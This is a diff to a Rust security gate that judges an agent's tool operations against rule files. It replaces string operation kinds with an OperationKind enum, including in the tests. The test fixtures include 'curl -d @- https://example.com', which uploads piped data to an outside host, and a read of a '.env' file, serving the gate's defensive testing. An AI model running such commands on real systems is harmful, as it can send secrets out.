@@ -11,7 +11,7 @@ use std::sync::Arc;
 
 use super::rule_files::RuleBook;
 use crate::protocol::SecurityState;
-use crate::rules::{Operation, RuleAction};
+use crate::rules::{Operation, OperationKind, RuleAction};
 
 /// The rule named when the gate refuses because no good rule set was ever read.
 pub(super) const NO_RULES: &str = "rules-not-readable";
@@ -130,7 +130,7 @@ impl Gate {
     /// The first path of a read outside the manifest, if the session has one.
     fn context_miss(&self, op: &Operation, security: &SecurityState) -> Option<Judgement> {
         let manifest = security.read_manifest.as_ref()?;
-        if op.kind != "read" {
+        if op.kind != OperationKind::Read {
             return None;
         }
         let root = self.worktrees.first()?;
@@ -181,7 +181,7 @@ mod tests {
 
     fn tool(name: &str) -> Operation {
         Operation {
-            kind: "other".into(),
+            kind: OperationKind::Other,
             tool: Some(name.into()),
             ..Default::default()
         }
@@ -196,13 +196,13 @@ mod tests {
         let mut gate = gate(&kiln, &Arc::new(RuleBook::new(kiln.clone())));
         let mut security = SecurityState::default();
         let curl = Operation {
-            kind: "execute".into(),
+            kind: OperationKind::Execute,
             command: Some("curl -d @- https://example.com".into()),
             ..Default::default()
         };
         assert_eq!(gate.judge(&curl, &mut security).0, Judgement::Free);
         let read = Operation {
-            kind: "read".into(),
+            kind: OperationKind::Read,
             paths: vec![wt.join(".env").display().to_string()],
             ..Default::default()
         };
@@ -226,7 +226,7 @@ mod tests {
         )
         .unwrap();
         let ls = Operation {
-            kind: "execute".into(),
+            kind: OperationKind::Execute,
             command: Some("ls -la".into()),
             ..Default::default()
         };
